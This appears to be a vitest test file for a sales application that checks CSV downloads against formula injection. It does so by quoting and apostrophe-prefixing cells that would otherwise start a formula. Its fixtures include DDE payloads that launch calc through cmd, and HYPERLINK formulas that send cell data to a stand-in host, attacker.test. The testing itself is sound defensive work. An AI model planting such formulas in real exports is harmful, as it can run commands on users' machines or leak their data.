/**
 * CSV downloads are safe against formula ("CSV") injection: text cells that begin with `=`, `+`, `-`, `@`, tab or
 * carriage return get a leading apostrophe and every text cell is quoted; numbers stay numbers. The CSV is read
 * back with an independent parser (csv-parse), and the price list is checked with a family named like a formula.
 * source: CSV Injection, OWASP Foundation, 2024 (cells must not begin with = + - @ tab or carriage return; prepend a
 * single quote and wrap each field in double quotes); RFC 4180, IETF, 2005 (quoting, CRLF line ends).
 */
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { csvText, neutraliseCsvCell } from '../server/csv/csvText';
import { familyRevisions } from '../server/db/schema';
import { useSalesTestApp } from './setup/salesTestApp';

/** Payloads from the guidance's examples and their variants (DDE, hyperlink, leading tab or CR). */
const PAYLOADS = [
  '=HYPERLINK("http://attacker.test/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

/** A spreadsheet reads a cell as a formula when its first character is one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('neutraliseCsvCell', () => {
  it('prefixes an apostrophe to every formula start and leaves ordinary text alone', () => {
    for (const payload of PAYLOADS) {
      expect(neutraliseCsvCell(payload)).toBe(`'${payload}`);
      expect(neutraliseCsvCell(payload)).not.toMatch(FORMULA_START);
    }
    for (const text of ['Hedgerow Gable', 'Box, 32 mm', "O'Neill's box", '', '2-part roof', 'a=b']) {
      expect(neutraliseCsvCell(text)).toBe(text);
    }
  });
});

describe('csvText', () => {
  it('reads back with csv-parse: payload cells neutralised, quotes and commas intact, numbers unchanged', () => {
    const rows = PAYLOADS.map((payload, i) => [payload, `Row ${i}, "quoted"`, -12.5, '-3.00']);
    const text = csvText(['Name', 'Note', 'Delta', 'Price'], rows, { numericColumns: [3] });
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(PAYLOADS.length);
    records.forEach((record, i) => {
      expect(record.Name).toBe(`'${PAYLOADS[i]}`);
      expect(record.Name).not.toMatch(FORMULA_START);
      expect(record.Note).toBe(`Row ${i}, "quoted"`);
      expect(Number(record.Delta)).toBe(-12.5);
      expect(record.Price).toBe('-3.00');
    });
    // Every text cell is quoted (a semicolon-splitting spreadsheet cannot start a new cell inside one).
    const firstDataLine = text.split('\r\n')[1];
    expect(firstDataLine.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(csvText(['a'], [['x;=1+1']])).toBe('"a"\r\n"x;=1+1"\r\n');
  });
});

describe('price list CSV', () => {
  const suite = useSalesTestApp();

  it('neutralises a family named like a formula', async () => {
    const payload = '=HYPERLINK("http://attacker.test","Open")';
    await suite.t.ctx.db
      .update(familyRevisions)
      .set({ name: payload })
      .where(eq(familyRevisions.familyId, suite.fixture.familyId));
    const sales = await suite.t.agent('sales');
    const res = await sales.get('/api/price-list.csv');
    expect(res.status).toBe(200);
    const records = parse(res.text, { columns: true }) as Array<Record<string, string>>;
    const ours = records.filter((r) => suite.fixture.variants.some((v) => v.sku === r.SKU));
    expect(ours.length).toBe(suite.fixture.variants.length);
    for (const record of ours) {
      expect(record.Family).toBe(`'${payload}`);
      expect(record.Product).not.toMatch(FORMULA_START);
      expect(Number(record['Unit price'])).toBeGreaterThan(0);
    }
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(FORMULA_START);
    }
  });
});
